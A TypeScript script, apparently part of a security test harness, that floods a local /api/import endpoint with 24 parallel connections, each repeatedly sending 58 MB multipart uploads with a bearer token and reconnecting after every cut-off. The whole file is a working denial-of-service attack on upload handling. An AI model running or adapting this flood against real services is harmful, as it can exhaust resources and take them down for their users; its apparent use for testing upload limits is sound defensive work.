import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { attack } from './underWay.ts';

const senders = 24;
const bytes = 58 * 1024 * 1024;
const piece = Buffer.alloc(256 * 1024, 'a');

interface Order {
  readonly url: string;
  readonly token: string;
}

/** Uploads lists of 58 MB on many connections at once, and starts again after each disconnection. */
await attack<Order>(async (order, count) => {
  const send = async () => {
    for (;;) {
      const status = await upload(order);
      count(status ? `answered ${status}` : 'cut off');
      await wait(20);
    }
  };
  await Promise.all(Array.from({ length: senders }, send));
});

/** Sends until done or disconnected; returns the response. */
async function upload({ url, token }: Order): Promise<string | null> {
  const { port } = new URL(url);
  const socket = connect(Number(port), '127.0.0.1');
  let told: string | null = null;
  socket.on('data', (answer) => {
    told ??= answer.toString('latin1').slice(9, 12);
  });
  socket.on('error', () => undefined);
  const closed = new Promise<void>((resolve) => {
    socket.once('close', () => resolve());
  });
  socket.write(
    [
      'POST /api/import HTTP/1.1',
      'Host: localhost',
      `Authorization: Bearer ${token}`,
      'Content-Type: multipart/form-data; boundary=x',
      `Content-Length: ${bytes}`,
      '',
      '--x\r\ncontent-disposition: form-data; name="file"; filename="l.csv"\r\n\r\n',
    ].join('\r\n'),
  );
  for (let sent = 0; sent < bytes && !socket.destroyed; sent += piece.length) {
    // A connection closed while sending has usually been answered before.
    const drained = socket.write(piece) ? null : once(socket, 'drain').catch(() => null);
    await Promise.race([drained, closed]);
  }
  await Promise.race([closed, wait(2000)]);
  socket.destroy();
  return told;
}
